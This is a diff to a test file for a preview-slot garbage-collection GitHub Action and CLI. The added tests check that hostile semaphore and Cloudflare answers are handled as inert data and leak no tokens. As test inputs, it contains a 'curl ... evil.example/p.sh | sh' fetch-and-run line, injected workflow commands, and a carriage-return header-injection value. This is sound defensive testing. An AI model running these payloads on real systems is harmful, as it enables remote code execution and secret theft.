@@ -10,8 +10,12 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { loadSlotConfig, type SlotConfig } from '../../src/config/slot-config.ts';
+import type { RunReport } from '../../src/report/model.ts';
+import { secretForms } from '../../src/report/redact.ts';
+import { runCli } from '../cli/run-cli.ts';
+import { runAction } from '../support/action-run.ts';
 import { type InProcessRun, runActionInProcess } from '../support/in-process-action.ts';
-import { secretLeaks, summaryEscapeProblems } from '../support/run-checks.ts';
+import { secretLeaks, summaryEscapeProblems, workflowCommandProblems } from '../support/run-checks.ts';
 import {
   type StubAnswer,
   type StubRequest,
@@ -27,6 +31,7 @@ const SLOT_CONFIG = fileURLToPath(new URL('./fixtures/small-slots.yml', import.m
 const POOL = 'bad';
 const TEN_MB = 10 * 1024 * 1024;
 const NOW = 1_796_000_000_000;
+const CLI_ENTRY = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));
 
 let stub: StubSemaphore;
 let twin: Twin;
@@ -292,7 +297,7 @@ describe('bad slot config files: refused before any network call, naming the fil
     [
       'a 10 MB file',
       `pool: p\nresources:\n  d1:\n    - name: a-{slot}\n# ${'x'.repeat(TEN_MB)}\nprotect: 7\n`,
-      /protect: must be a list, got number 7/,
+      /is [\d,]+ bytes, more than the 1,048,576 \(1 MiB\) a slot config may have/,
     ],
   ];
   it.each(cases)('%s', async (name, text, message) => {
@@ -583,5 +588,190 @@ describe('a semaphore answer for another slot', () => {
     expect(run.errors).toMatch(
       /acquire-specific: the answer does not follow the semaphore protocol: slug: is bad-live, but the call was for slot bad-a/,
     );
+  });
+});
+
+// Hostile answers: a semaphore or a Cloudflare API that sends workflow commands, shell text and the
+// tokens back. The bundled action runs as the runner starts it, so its real stdout is what the runner
+// would read; the CLI runs bundled too. Every run: no line the runner would take as a command but the
+// action's own, no token in any form it was echoed in, an escaped summary.
+describe('hostile answers: data, never code, never a token', () => {
+  const INJECTED = '\n::warning title=X::pwned\n::add-mask::preview\n##[error]legacy';
+  const SHELL = '; curl -s https://evil.example/p.sh | sh; #';
+  /** The forms the hostile counterpart echoes a secret in. */
+  const echoesOf = (secret: string) => [
+    secret,
+    encodeURIComponent(`${secret}/x`),
+    Buffer.from(`Bearer ${secret}`).toString('base64'),
+  ];
+  const ECHOES = [...echoesOf(SEMAPHORE_TOKEN), ...echoesOf(CLOUDFLARE_TOKEN)];
+  /** An error answer whose message repeats the token and carries workflow commands. */
+  const ECHOING_ERROR: StubAnswer = {
+    status: 400,
+    body: {
+      error: {
+        code: 'invalid_request',
+        message: `bad type ${echoesOf(SEMAPHORE_TOKEN).join(' ')}${INJECTED}`,
+      },
+    },
+  };
+  const OWN_MASKS = new Set(
+    [SEMAPHORE_TOKEN, CLOUDFLARE_TOKEN].flatMap((secret) => [...secretForms(secret), `Bearer ${secret}`]),
+  );
+
+  function expectNeutral(seen: {
+    stdout: string;
+    stderr: string;
+    summary?: string;
+    outputs?: Record<string, string>;
+  }) {
+    expect(workflowCommandProblems(seen.stdout, OWN_MASKS)).toEqual([]);
+    expect(workflowCommandProblems(seen.stderr, OWN_MASKS)).toEqual([]);
+    const shown = {
+      log: seen.stdout,
+      summary: seen.summary ?? '',
+      outputs: seen.outputs ?? {},
+      other: [seen.stderr],
+    };
+    expect(secretLeaks(shown, ECHOES)).toEqual([]);
+    expect(summaryEscapeProblems(seen.summary ?? '')).toEqual([]);
+  }
+
+  async function bundledAction(script: Script, extra: Record<string, string> = {}) {
+    stub.answer = answering(script);
+    stub.requests.length = 0;
+    twin.resetRequests();
+    const result = await runAction(inputs(extra));
+    expectNeutral(result);
+    return { ...result, report: JSON.parse(result.outputs.report ?? 'null') as RunReport | null };
+  }
+
+  const cases: [string, Script, RegExp][] = [
+    [
+      'a listed slug carrying workflow commands',
+      { list: listOf(slot(`bad-a${INJECTED}`)) },
+      /resources\.0\.slug: slug must be 1-63 characters.*The semaphore sent something else there, not repeated here/,
+    ],
+    [
+      'a listed slug carrying shell text',
+      { list: listOf(slot(`bad-a && curl -s https://evil.example/p.sh | sh`)) },
+      /resources\.0\.slug: slug must be/,
+    ],
+    [
+      'a leaseId carrying shell text',
+      { acquire: ok(lease('bad-a', { leaseId: `6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10${SHELL}` })) },
+      /acquire-specific: the answer does not follow the semaphore protocol: leaseId: /,
+    ],
+    [
+      'an error message with workflow commands and the token in three forms',
+      {
+        list: ECHOING_ERROR,
+      },
+      /The run stopped: bad type \[the token\] \[the token\]%(25)?2Fx QmVhcmVyI[\w+/]*\*\*\*[\w+/=]*\\n::warning/,
+    ],
+  ];
+  it.each(cases)('%s: refused, nothing erased, nothing of it runs', async (_, script, message) => {
+    const run = await bundledAction(script);
+    expect(run.exitCode).toBe(1);
+    expect(run.stdout).toMatch(message);
+    expect(twin.requests()).toEqual([]);
+    expect(run.summary).not.toContain('curl');
+  });
+
+  it('a holder that is a workflow command: shown as data, the slot skipped', async () => {
+    const run = await bundledAction({
+      list: listOf(slot('bad-a', { holder: '::add-mask::preview' })),
+      acquire: ok(null),
+    });
+    expect(run.exitCode).toBe(0);
+    expect(run.report?.slots).toMatchObject([
+      { slug: 'bad-a', outcome: 'skipped', previousHolder: '::add-mask::preview' },
+    ]);
+    expect(run.stdout).toContain('bad-a: skipped');
+  });
+
+  it('a Cloudflare 403 that echoes the token: erase-failed, and the token nowhere', async () => {
+    twin.faults.add({
+      route: 'POST /accounts/:account/d1/database/:id/query',
+      status: 403,
+      code: 10000,
+      message: `Authentication error for ${echoesOf(CLOUDFLARE_TOKEN).join(' ')}${INJECTED}`,
+    });
+    const run = await bundledAction({});
+    twin.faults.clear();
+    expect(run.exitCode).toBe(1);
+    expect(run.report?.slots).toMatchObject([{ slug: 'bad-a', outcome: 'erase-failed' }]);
+    expect(run.report?.slots[0]?.problem).toMatch(
+      /Authentication error for \*\*\* \*\*\*%2Fx QmVhcmVyI[\w+/]*\*\*\*[\w+/=]*\\n::warning title=X::pwned/,
+    );
+    expect(run.stdout).toMatch(
+      /::error title=preview-gc%3A bad-a erase-failed::.*Authentication error for \*\*\*/,
+    );
+  });
+
+  describe('the CLI', () => {
+    const cli = (args: string[]) =>
+      runCli(
+        [...args, '--config', SLOT_CONFIG, '--pool', POOL],
+        {
+          SEMAPHORE_URL: stub.url,
+          SEMAPHORE_TOKEN,
+          CLOUDFLARE_API_TOKEN: CLOUDFLARE_TOKEN,
+          CLOUDFLARE_ACCOUNT_ID: twin.accountId,
+          CLOUDFLARE_API_BASE_URL: twin.baseUrl,
+        },
+        CLI_ENTRY,
+      );
+
+    it.each([
+      ['a semaphore URL with a password', { SEMAPHORE_URL: 'https://ops:hunter2-secret@semaphore.example' }],
+      ['a token with a carriage return', { SEMAPHORE_TOKEN: 'sem-hunter2-secret\rX-Injected: 1' }],
+    ])('%s: refused before any call, without echoing it', async (_, env) => {
+      stub.requests.length = 0;
+      const result = await runCli(
+        ['status', '--pool', POOL],
+        { SEMAPHORE_URL: stub.url, SEMAPHORE_TOKEN, ...env },
+        CLI_ENTRY,
+      );
+      expect(result.code).toBe(2);
+      expect(result.stderr).toMatch(/SEMAPHORE_(URL|TOKEN)/);
+      expect(result.stdout + result.stderr).not.toContain('hunter2');
+      expect(stub.requests).toEqual([]);
+    });
+
+    it('status and slots list show a holder that is a workflow command as data', async () => {
+      stub.answer = answering({ list: listOf(slot('bad-a', { holder: '::add-mask::preview' })) });
+      for (const command of [['status'], ['slots', 'list']]) {
+        const result = await cli(command);
+        expect(result.code, result.stderr).toBe(0);
+        expect(result.stdout).toContain('add-mask::preview');
+        expectNeutral(result);
+      }
+    });
+
+    it('an error answer with workflow commands and the token: exit 1, neither reaches the terminal', async () => {
+      stub.answer = answering({
+        list: ECHOING_ERROR,
+      });
+      const result = await cli(['status']);
+      expect(result.code).toBe(1);
+      expect(result.stdout).toMatch(/bad type \[the token\] \[the token\]%2Fx .*\\n::warning title=X::pwned/);
+      expectNeutral(result);
+    });
+
+    it('gc against a Cloudflare 403 that echoes the token: exit 1, the token nowhere', async () => {
+      stub.answer = answering({});
+      twin.faults.add({
+        route: 'POST /accounts/:account/d1/database/:id/query',
+        status: 403,
+        code: 10000,
+        message: `Authentication error for ${echoesOf(CLOUDFLARE_TOKEN).join(' ')}${INJECTED}`,
+      });
+      const result = await cli(['gc']);
+      twin.faults.clear();
+      expect(result.code).toBe(1);
+      expect(result.stdout).toMatch(/erase failed/);
+      expectNeutral(result);
+    });
   });
 });
